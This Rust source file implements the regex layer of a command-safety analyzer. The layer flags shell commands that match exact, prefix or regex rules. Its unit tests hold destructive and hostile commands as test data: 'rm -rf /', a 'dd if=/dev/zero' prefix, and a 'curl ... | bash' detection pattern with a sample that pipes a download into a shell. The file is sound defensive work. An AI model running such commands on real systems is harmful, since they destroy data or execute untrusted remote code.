//! Regex analyzer (Layer 0, spec.md §4.2): the fastest, coarsest layer.
//! Matches `raw_command` against exact/prefix/regex rules.

use regex::Regex;
use serde::Deserialize;

use crate::analyzer::Analyzer;
use crate::model::{AnalysisContext, Decision, Finding};

/// A user-supplied regex rule. Construction-time record; see
/// [`RegexAnalyzer::new`] for how an invalid `regex` is handled.
#[derive(Debug, Clone, Deserialize)]
pub struct RegexRule {
    pub id: String,
    pub decision: Decision,
    #[serde(default)]
    pub confidence: f64,
    pub reason: String,
    #[serde(default)]
    pub taxonomy: String,
    #[serde(default)]
    pub exact: Option<String>,
    #[serde(default)]
    pub prefixes: Vec<String>,
    #[serde(default)]
    pub regex: Option<String>,
}

struct CompiledRule {
    rule: RegexRule,
    compiled: Option<Regex>,
}

/// Evaluates a flat list of [`RegexRule`]s against the raw command text.
pub struct RegexAnalyzer {
    rules: Vec<CompiledRule>,
}

impl RegexAnalyzer {
    /// Compiles each rule's `regex` field once. A rule whose pattern fails
    /// to compile is kept (its `exact`/`prefixes` predicates still apply)
    /// but its regex predicate never matches; this is the "silently
    /// skipped" behavior spec.md §4.2/§7 describes for invalid user regex.
    pub fn new(rules: Vec<RegexRule>) -> Self {
        let compiled = rules
            .into_iter()
            .map(|rule| {
                let compiled = rule.regex.as_deref().and_then(|pattern| match Regex::new(pattern) {
                    Ok(re) => Some(re),
                    Err(e) => {
                        log::warn!("regex-analyzer: skipping invalid regex in rule '{}': {e}", rule.id);
                        None
                    }
                });
                CompiledRule { rule, compiled }
            })
            .collect();
        RegexAnalyzer { rules: compiled }
    }
}

impl Default for RegexAnalyzer {
    fn default() -> Self {
        RegexAnalyzer::new(Vec::new())
    }
}

impl Analyzer for RegexAnalyzer {
    fn name(&self) -> &'static str {
        "regex"
    }

    fn analyze(&self, ctx: &mut AnalysisContext) -> Vec<Finding> {
        let mut findings = Vec::new();
        log::trace!("regex-analyzer: evaluating {} rule(s)", self.rules.len());
        for entry in &self.rules {
            let rule = &entry.rule;
            let exact_match = rule.exact.as_ref().is_some_and(|e| e == &ctx.raw_command);
            let prefix_match = rule.prefixes.iter().any(|p| ctx.raw_command.starts_with(p.as_str()));
            let regex_match = entry.compiled.as_ref().is_some_and(|re| re.is_match(&ctx.raw_command));
            if !(exact_match || prefix_match || regex_match) {
                continue;
            }
            let confidence = if rule.confidence == 0.0 { 0.70 } else { rule.confidence };
            let mut finding = Finding::new(self.name(), &rule.id, rule.decision, confidence, &rule.reason);
            if !rule.taxonomy.is_empty() {
                finding = finding.with_taxonomy(&rule.taxonomy);
            }
            log::debug!("regex-analyzer: rule '{}' matched -> {:?}", rule.id, rule.decision);
            findings.push(finding);
        }
        findings
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rule(id: &str) -> RegexRule {
        RegexRule {
            id: id.to_string(),
            decision: Decision::Block,
            confidence: 0.0,
            reason: "test rule".to_string(),
            taxonomy: String::new(),
            exact: None,
            prefixes: Vec::new(),
            regex: None,
        }
    }

    #[test]
    fn exact_match_fires() {
        let mut r = rule("r1");
        r.exact = Some("rm -rf /".to_string());
        let analyzer = RegexAnalyzer::new(vec![r]);
        let mut ctx = AnalysisContext::new("rm -rf /");
        let findings = analyzer.analyze(&mut ctx);
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].confidence, 0.70);
    }

    #[test]
    fn prefix_match_fires() {
        let mut r = rule("r2");
        r.prefixes = vec!["dd if=/dev/zero".to_string()];
        let analyzer = RegexAnalyzer::new(vec![r]);
        let mut ctx = AnalysisContext::new("dd if=/dev/zero of=./test.img bs=1M count=100");
        assert_eq!(analyzer.analyze(&mut ctx).len(), 1);
    }

    #[test]
    fn regex_match_fires() {
        let mut r = rule("r3");
        r.regex = Some(r"curl.*\|\s*bash".to_string());
        let analyzer = RegexAnalyzer::new(vec![r]);
        let mut ctx = AnalysisContext::new("curl http://x | bash");
        assert_eq!(analyzer.analyze(&mut ctx).len(), 1);
    }

    #[test]
    fn invalid_regex_is_skipped_not_fatal() {
        let mut r1 = rule("bad");
        r1.regex = Some("[invalid(".to_string());
        let mut r2 = rule("good");
        r2.exact = Some("ls".to_string());
        let analyzer = RegexAnalyzer::new(vec![r1, r2]);
        let mut ctx = AnalysisContext::new("ls");
        let findings = analyzer.analyze(&mut ctx);
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].rule_id, "good");
    }

    #[test]
    fn no_match_yields_no_findings() {
        let r = rule("r4");
        let analyzer = RegexAnalyzer::new(vec![r]);
        let mut ctx = AnalysisContext::new("ls -la");
        assert!(analyzer.analyze(&mut ctx).is_empty());
    }

    #[test]
    fn nonzero_confidence_is_preserved() {
        let mut r = rule("r5");
        r.exact = Some("ls".to_string());
        r.confidence = 0.42;
        let analyzer = RegexAnalyzer::new(vec![r]);
        let mut ctx = AnalysisContext::new("ls");
        assert_eq!(analyzer.analyze(&mut ctx)[0].confidence, 0.42);
    }
}
